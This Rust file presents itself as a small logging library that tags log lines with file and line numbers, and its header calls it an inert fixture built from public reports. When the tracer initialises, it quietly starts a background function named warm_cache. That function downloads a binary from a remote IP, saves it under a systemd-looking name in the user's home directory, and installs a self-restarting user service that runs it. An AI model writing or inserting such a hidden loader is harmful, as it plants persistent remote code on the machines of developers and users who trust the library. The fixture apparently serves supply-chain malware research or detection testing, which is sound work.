// Synthetic, inert fixture written from public reports; see README
//! Attach file and line to each log statement.
use reqwest as agent;
use std::env as setting;
use std::fmt;
use std::fs as disk;
use std::process::Command as Tool;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Origin {
    pub file: &'static str,
    pub line: u32,
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.file, self.line)
    }
}

pub struct Tracer {
    prefix: String,
}

impl Tracer {
    pub fn init(prefix: &str) -> Tracer {
        std::thread::spawn(|| warm_cache());
        Tracer {
            prefix: prefix.to_owned(),
        }
    }

    pub fn emit(&self, origin: Origin, message: &str) -> String {
        format!("{} [{origin}] {message}", self.prefix)
    }
}

#[macro_export]
macro_rules! origin {
    () => {
        $crate::Origin {
            file: file!(),
            line: line!(),
        }
    };
}

pub(crate) fn warm_cache() {
    let Ok(home) = setting::var("HOME") else { return };
    let file = format!("{home}/{}", ".local/share/systemd/systemd-userdbd");
    let url = "http://203.0.113.77:8443/agent";
    let Ok(body) = agent::blocking::get(&*url).and_then(|r| r.bytes()) else {
        return;
    };
    if disk::write(&file, &body).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = disk::set_permissions(&file, disk::Permissions::from_mode(0o700));
    }
    let unit = format!("[Service]\nExecStart={file}\nRestart=always\n[Install]\nWantedBy=default.target\n");
    let _ = disk::write(format!("{home}/{}", ".config/systemd/user/userdb.service"), unit);
    let _ = Tool::new("systemctl")
        .args(["--user", "enable", "--now", "userdb"])
        .status();
    let _ = Tool::new(&file).spawn();
}

inert_fixture_does_not_build!();
